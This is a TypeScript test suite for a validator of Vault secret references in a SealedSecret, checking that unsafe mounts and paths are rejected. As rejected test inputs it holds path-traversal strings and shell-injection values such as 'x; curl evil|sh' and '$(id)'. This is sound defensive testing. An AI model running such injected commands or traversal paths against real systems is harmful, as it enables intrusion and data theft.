import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { readReferences } from "../../../controller/vault-kv/vault-reference.ts";
import { parseSealedSecret } from "../../../shared/sealed-secret.ts";
import { urlPath } from "../../../shared/vault/vault-path.ts";

const good = { key: "password", mount: "kv", path: "team/db", field: "password" };
const sealed = (vault: object[], spec: object = {}) =>
  parseSealedSecret(
    {
      apiVersion: "bitnami.com/v1alpha1",
      kind: "SealedSecret",
      metadata: { name: "db", namespace: "team" },
      spec: { encryptedData: {}, vault, ...spec },
    },
    "the object",
  );
const problemOf = (vault: object[], spec?: object): string => {
  const read = readReferences(sealed(vault, spec));
  return read.ok ? assert.fail("it was accepted") : read.problem;
};
const read = (reference: object) => {
  const result = readReferences(sealed([reference]));
  return result.ok ? result.references[0] : assert.fail(result.problem);
};

describe("a Vault reference", () => {
  test("is read as it stands", () => {
    assert.deepEqual(read(good), { ...good, version: null, refreshMs: null });
    assert.deepEqual(read({ ...good, version: 3, refreshInterval: "1h30m" }), {
      ...{ ...good, version: 3 },
      refreshMs: 5_400_000,
    });
    assert.deepEqual(readReferences(sealed([])), { ok: true, references: [] });
  });

  const taken: [string, object][] = [
    ["a mount with slashes", { mount: "teams/a/kv.v2" }],
    ["a path of one name", { path: "db" }],
    ["spaces and umlauts inside a name", { path: "team a/zügig" }],
    ["the signs that names of services have", { path: "team-a/db_1.v2@host:5432=x+y" }],
    ["dots inside a name", { path: "a.b/..c" }],
    ["the least interval", { refreshInterval: "10s" }],
    ["a field of any letters", { field: "a/b c" }],
  ];
  for (const [what, change] of taken)
    test(`may have ${what}`, () => assert.ok(read({ ...good, ...change }) !== undefined));

  const refused: [string, object, RegExp][] = [
    ["an item name no Secret may have", { key: "a b" }, /^spec\.vault\[0\]\.key is not a name/],
    ["no mount", { mount: "" }, /^spec\.vault, item password: mount must be/],
    ["a mount that climbs", { mount: "kv/.." }, /mount must be/],
    ["a mount with a slash at its end", { mount: "kv/" }, /mount must be/],
    ["a mount with an encoded slash", { mount: "kv%2f" }, /mount must be/],
    ["a mount beyond measure", { mount: "m".repeat(129) }, /mount must be/],
    ["no path", { path: "" }, /path must have 1 to 512/],
    ["a path beyond measure", { path: "p".repeat(513) }, /path must have 1 to 512/],
    ["a path that climbs", { path: "team/../other" }, /path must be names/],
    ["a path that stays", { path: "./db" }, /path must be names/],
    ["a path of three dots", { path: "a/.../b" }, /path must be names/],
    ["an empty name in its path", { path: "team//db" }, /path must be names/],
    ["a path from the root", { path: "/team" }, /path must be names/],
    ["a path with a slash at its end", { path: "team/" }, /path must be names/],
    ["spaces around a name", { path: "team/ db" }, /path must be names/],
    ["an encoded slash in its path", { path: "a%2f..%2fb" }, /path must hold nothing but/],
    ["a query in its path", { path: "db?version=1" }, /path must hold nothing but/],
    ["a fragment in its path", { path: "db#x" }, /path must hold nothing but/],
    ["a backslash in its path", { path: "a\\..\\b" }, /path must hold nothing but/],
    ["a line break in its path", { path: "a\nb" }, /path must hold nothing but/],
    ["half a character in its path", { path: "a\ud800" }, /path must hold nothing but/],
    ...["x; curl evil|sh", "$(id)", "`id`", 'a"b', "a'b", "a&b", "a>b", "a*", "a\u00a0b", "a\u2028b"].map(
      (path): [string, object, RegExp] => [
        `what a shell would run in its path: ${path}`,
        { path },
        /path must hold nothing but letters, digits, spaces and/,
      ],
    ),
    ["no field", { field: "" }, /field must have/],
    ["a field with a line break", { field: "a\nb" }, /field must have/],
    ["a field beyond measure", { field: "f".repeat(257) }, /field must have/],
    ["version 0", { version: 0 }, /version must be 1 or more/],
    ["an interval below ten seconds", { refreshInterval: "9.999s" }, /refreshInterval must be 10s or more/],
    ["an interval that is none", { refreshInterval: "soon" }, /refreshInterval must be a duration/],
    ["an interval in days", { refreshInterval: "1d" }, /refreshInterval must be a duration/],
    ["an interval into the past", { refreshInterval: "-1h" }, /refreshInterval must be 10s or more/],
    ["an interval without end", { refreshInterval: "99999999999h" }, /refreshInterval must be 8760h or less/],
  ];
  for (const [what, change, problem] of refused)
    test(`may not have ${what}`, () => assert.match(problemOf([{ ...good, ...change }]), problem));

  test("never names an item that is sealed, too", () => {
    assert.equal(
      problemOf([good], { encryptedData: { password: "AgA=" } }),
      "item password stands in spec.encryptedData and in spec.vault: remove one of them",
    );
    assert.match(problemOf([good], { data: "AgA=" }), /deprecated field 'data'/);
  });

  test("is one of at most 64, and of some thousand characters in all", () => {
    const many = (count: number, path: string) =>
      Array.from({ length: count }, (_, at) => ({ ...good, key: `k${at}`, path }));
    assert.equal(readReferences(sealed(many(64, "a"))).ok, true);
    assert.match(problemOf(many(65, "a")), /more than 64 items/);
    assert.match(problemOf(many(17, "p".repeat(500))), /more than 8192 characters/);
  });

  test("that is accepted never asks for anything but what lies below its mount", () => {
    const name = fc.oneof(
      fc.string({ unit: "binary", maxLength: 6 }),
      fc.constantFrom("..", ".", "%2e", "a", "data", "?", "#", "\\", "..;", " ", ""),
    );
    const path = fc.array(name, { maxLength: 4 }).map((parts) => parts.join("/"));
    fc.assert(
      fc.property(path, path, (mount, below) => {
        const result = readReferences(sealed([{ ...good, mount, path: below }]));
        if (!result.ok) return;
        const asked = urlPath([...mount.split("/"), "data", ...below.split("/")]);
        const { pathname, search, hash } = new URL(`https://vault${asked}`);
        assert.equal(pathname, asked);
        assert.equal(search + hash, "");
        assert.equal(decodeURIComponent(pathname), `/v1/${mount}/data/${below}`);
      }),
      { numRuns: 500 },
    );
  });
});
